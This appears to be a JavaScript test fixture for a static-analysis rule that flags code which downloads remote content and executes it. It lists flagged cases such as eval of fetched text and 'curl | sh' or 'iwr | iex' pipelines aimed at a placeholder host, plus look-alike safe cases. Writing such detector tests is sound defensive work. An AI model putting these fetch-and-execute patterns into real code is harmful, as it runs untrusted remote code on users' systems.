import { exec, execSync, spawn } from 'node:child_process';
import https from 'node:https';
import vm from 'node:vm';
import axios from 'axios';

const URL = 'https://example.com/x';

export async function code() {
  const response = await fetch(URL);
  const text = await response.text();
  // ruleid: download-then-exec
  eval(text);
  const { data } = await axios.get(URL);
  // ruleid: download-then-exec
  new Function('require', data)(require);
  // ruleid: download-then-exec
  vm.runInNewContext(await (await fetch(URL)).text(), {});
  const config = await (await (0, node_fetch_1.default)(URL)).json();
  // ruleid: download-then-exec
  eval(`(${config.code})`);
}

export function promises() {
  fetch(URL)
    .then((response) => response.text())
    .then((text) => {
      // ruleid: download-then-exec
      eval(text);
    });
  // ruleid: download-then-exec
  axios.get(URL).then(({ data }) => new Function(data)());
}

export function callbacks() {
  https.get(URL, (response) => {
    let body = '';
    response.on('data', (chunk) => {
      body += chunk;
    });
    response.on('end', () => {
      // ruleid: download-then-exec
      eval(body);
    });
  });
}

export async function commands() {
  const response = await fetch(URL);
  const script = await response.text();
  // ruleid: download-then-exec
  execSync(script);
  // ruleid: download-then-exec
  spawn('bash', ['-c', script]);
  // ruleid: download-then-exec
  spawn('node', ['-e', script]);
  const order = await (await fetch(URL)).json();
  // ruleid: download-then-exec
  exec(order.command, () => {});
  const printed = execSync('curl -s https://example.com/x').toString();
  // ruleid: download-then-exec
  eval(printed);
}

export function piped() {
  // ruleid: download-then-exec
  execSync('curl -fsSL https://example.com/install | sh');
  // ruleid: download-then-exec
  exec(`wget -qO- ${URL} | sudo bash`, () => {});
  // ruleid: download-then-exec
  spawn('sh', ['-c', 'curl https://example.com/x | bash']);
  // ruleid: download-then-exec
  exec("powershell -c \"iwr https://example.com/x | iex\"");
  // ruleid: download-then-exec
  execSync('bash <(curl -s https://example.com/x)');
}

export async function lookAlikes(pattern, db) {
  const response = await fetch(URL);
  const text = await response.text();
  // ok: download-then-exec
  pattern.exec(text);
  // ok: download-then-exec
  db.exec(text);
  // ok: download-then-exec
  JSON.parse(text);
  const app = await (await fetch(URL)).json();
  // ok: download-then-exec
  execSync(`git remote add x ${app.git_url}`);
  // ok: download-then-exec
  execSync('npm view x@' + app.version);
  // ok: download-then-exec
  spawn('git', ['clone', app.git_url]);
  // ok: download-then-exec
  console.log('Install it with: curl -fsSL https://example.com/install | sh');
  // ok: download-then-exec
  setTimeout(() => console.log(text), 10);
  // eval(await (await fetch(URL)).text())
  // ok: download-then-exec
  return 'curl https://example.com/x | sh';
}
